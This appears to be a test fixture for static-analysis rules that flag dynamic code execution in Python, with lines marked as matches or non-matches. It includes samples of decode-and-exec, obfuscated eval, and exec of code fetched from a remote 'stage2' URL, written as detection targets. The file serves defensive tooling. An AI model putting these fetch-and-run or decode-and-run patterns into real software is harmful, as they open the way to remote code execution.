@@ -1,0 +1,74 @@
+# Annotated examples for dynamic code execution rules (default set).
+import ast
+import base64
+import codecs
+import re
+import runpy
+import types
+import urllib.request
+import zlib
+from base64 import b64decode as unb
+import requests
+
+expr = input()
+# ruleid: AIR-EXEC-001
+value = eval(expr)
+# ruleid: AIR-EXEC-001
+exec("print('hello')")
+# ruleid: AIR-EXEC-001
+code = compile(expr, "<agent>", "exec")
+# ruleid: AIR-EXEC-001
+getattr(__builtins__, "ev" + "al")(expr)
+# ok: AIR-EXEC-001
+literal = ast.literal_eval("[1, 2, 3]")
+# ok: AIR-EXEC-001
+pattern = re.compile(r"\d+")
+
+
+def eval_model(model: object, data: list[int]) -> float:
+    return float(sum(data))
+
+
+# ok: AIR-EXEC-001
+score = eval_model(None, [1, 2])
+
+PAYLOAD = "cHJpbnQoJ2hpJyk="
+# ruleid: AIR-EXEC-002
+exec(base64.b64decode(PAYLOAD))
+# ruleid: AIR-EXEC-002
+exec(unb(PAYLOAD).decode())
+blob = zlib.decompress(base64.b64decode(input()))
+# ruleid: AIR-EXEC-002
+exec(blob)
+# ruleid: AIR-EXEC-002
+eval(codecs.decode(input(), "rot13"))
+# ruleid: AIR-EXEC-002
+exec(bytes.fromhex(input()).decode())
+# ok: AIR-EXEC-002
+print(base64.b64decode(PAYLOAD).decode())
+
+URL = "https://example.net/stage2.py"
+# ruleid: AIR-EXEC-003
+exec(urllib.request.urlopen(URL).read())
+resp = requests.get(URL, timeout=5)
+# ruleid: AIR-EXEC-003
+exec(resp.text)
+# ok: AIR-EXEC-003
+print(requests.get(URL, timeout=5).json())
+
+# ruleid: AIR-EXEC-004
+runpy.run_path("/tmp/stage2.py")
+# ruleid: AIR-EXEC-004
+runpy.run_module("http.server")
+# ok: AIR-EXEC-004
+parsed = ast.parse("x = 1")
+
+# ruleid: AIR-EXEC-005
+fn = types.FunctionType(compile("1", "", "eval"), {})
+# ok: AIR-EXEC-005
+ns = types.SimpleNamespace(a=1)
+
+# ruleid: AIR-EXEC-006
+json_mod = __import__("json")
+# ok: AIR-EXEC-006
+import json
